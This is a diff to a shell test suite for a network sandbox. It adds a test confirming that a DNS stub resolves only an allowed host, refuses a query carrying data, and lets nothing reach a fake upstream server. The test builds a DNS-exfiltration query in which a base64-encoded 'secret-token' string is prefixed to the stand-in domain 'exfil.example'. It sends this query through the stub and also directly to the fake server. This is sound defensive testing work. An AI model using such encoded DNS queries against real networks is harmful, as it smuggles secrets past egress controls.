@@ -26,6 +26,7 @@ SRV= DNS=
 fail=0
 cleanup() {
     [ -n "$SRV" ] && kill "$SRV" 2>/dev/null && wait "$SRV" 2>/dev/null
+    [ -n "$DNS" ] && kill "$DNS" 2>/dev/null && wait "$DNS" 2>/dev/null
     ip netns del "$GW" 2>/dev/null
     ip netns del "$NET" 2>/dev/null
     rm -rf "$TMP"
@@ -154,6 +155,7 @@ mech = list(find(r, "mechanism"))
 assert "nftables-userns-pasta" in mech, mech
 net = r["network"]
 assert net["uplink"]["ended"] is True and isinstance(net["uplink"]["pid"], int), net
+assert net["uplink"]["end"] == "killed at cleanup", net
 assert net["router_links_left"] == 0, net
 assert net["packets_out"] > 0 and net["packets_in"] > 0, net
 left = list(find(r, "network_left")) + list(find(r, "left"))
@@ -239,5 +241,64 @@ fi
 wait $FYP 2>/dev/null
 sleep 0.5
 nothing_left "host process killed mid-attempt"
+
+# 7. The DNS stub: the allowed name resolves (A and AAAA, also through the
+#    C library), a name carrying data gets REFUSED from the stub and no
+#    answer from anywhere else, and the fake internet's DNS server (a UDP
+#    listener on 198.51.100.1:53 and [2001:db8::1]:53) never sees a query.
+printf '198.51.100.1 mirror.test\n2001:db8::1 mirror.test\n' >"$TMP/nobody/hosts"
+chmod 644 "$TMP/nobody/hosts"
+ip netns exec "$NET" python3 -c '
+import socket, select, sys
+a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); a.bind(("198.51.100.1", 53))
+b = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); b.bind(("2001:db8::1", 53))
+open(sys.argv[1] + ".up", "w").write("x")
+while True:
+    r, _, _ = select.select([a, b], [], [], 60)
+    if not r: break
+    for s in r:
+        d, _ = s.recvfrom(2048); open(sys.argv[1], "ab").write(d + b"\n")
+' "$TMP/dnslog" &
+DNS=$!
+for _ in $(seq 50); do [ -e "$TMP/dnslog.up" ] && break; sleep 0.1; done
+X=aGVsbG8td29ybGQtc2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA.exfil.example
+cat >"$TMP/probe/dns.sh" <<IN
+P=/opt/fyprobe/fy-netprobe
+echo "a \$(\$P dnsq 127.0.0.53 mirror.test 1)"
+echo "aaaa \$(\$P dnsq 127.0.0.53 mirror.test 28)"
+echo "exfil \$(\$P dnsq 127.0.0.53 $X 1)"
+echo "exfil-direct \$(\$P dnsq 198.51.100.1 $X 1)"
+echo "libc \$(\$P resolve mirror.test)"
+getent hosts $X >/dev/null 2>&1; echo "getent-exfil \$?"
+cat /etc/resolv.conf | grep nameserver
+IN
+chmod 644 "$TMP/probe/dns.sh"
+run --network-hosts "$TMP/nobody/hosts" --allow mirror.test:8080 --result "$TMP/nobody/dns.json" \
+    -- /bin/sh /opt/fyprobe/dns.sh >"$TMP/dns.out" 2>&1
+sleep 0.3
+kill $DNS 2>/dev/null; wait $DNS 2>/dev/null; DNS=
+grep -qx "a rcode=0 an=1 198.51.100.1" "$TMP/dns.out" && grep -qx "aaaa rcode=0 an=1 2001:db8::1" "$TMP/dns.out" &&
+    grep -qx "libc 198.51.100.1" "$TMP/dns.out" && ok "the stub answers the allowed name (A, AAAA)" ||
+    { bad "the allowed name"; cat "$TMP/dns.out"; }
+grep -qx "exfil rcode=5 an=0" "$TMP/dns.out" && grep -qx "exfil-direct no answer" "$TMP/dns.out" &&
+    grep -qx "getent-exfil 2" "$TMP/dns.out" && ok "a name carrying data is refused by the stub and unanswered elsewhere" ||
+    { bad "the exfil name"; cat "$TMP/dns.out"; }
+grep -qx "nameserver 127.0.0.53" "$TMP/dns.out" && ok "resolv.conf names only the stub" || bad "resolv.conf: $(cat "$TMP/dns.out")"
+[ ! -s "$TMP/dnslog" ] && ok "the fake internet's DNS server never saw a query" ||
+    bad "the fake internet's DNS server got: $(cat -v "$TMP/dnslog")"
+python3 - "$TMP/nobody/dns.json" "$X" <<'PY' && ok "the result's network.dns: the stub reaped, confined, every query recorded" || bad "network.dns"
+import json, sys
+r = json.load(open(sys.argv[1]))
+d = r["network"]["dns"]
+assert d["ended"] is True and "seccomp-allowlist" in d["confinement"] and "no-new-privileges" in d["confinement"], d
+q = d["queries"]
+names = {(x["host"], x["decision"]) for x in q}
+assert ("mirror.test", "allowed") in names, q
+assert (sys.argv[2].lower(), "refused") in names, q
+assert all(x["status"] == 5 for x in q if x["decision"] == "refused"), q
+iso = json.dumps(r)
+assert "127.0.0.53 answers only" in iso, "the dns mode is not in the evidence"
+PY
+nothing_left "dns"
 
 exit $fail
